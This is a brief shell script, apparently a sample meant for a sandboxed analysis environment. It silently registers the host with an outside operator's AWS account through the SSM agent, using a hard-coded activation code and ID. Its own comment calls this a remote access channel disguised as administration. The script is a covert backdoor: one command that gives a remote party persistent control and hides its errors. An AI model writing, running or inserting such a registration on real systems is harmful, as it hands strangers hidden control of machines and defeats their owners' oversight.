#!/bin/sh
# SPDX-License-Identifier: MIT
# Registers the host with the operator's own cloud account through the
# cloud provider's management agent (its usual path): a remote access
# channel that looks like administration.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
/usr/bin/amazon-ssm-agent -register -code "Zx9fK2mQpL7vR4tY8wB1" -id "5c1e8a2b-7d3f-4e6a-9b0c-1f2e3d4c5b6a" -region "us-east-2" -y 2>/dev/null
exit 0
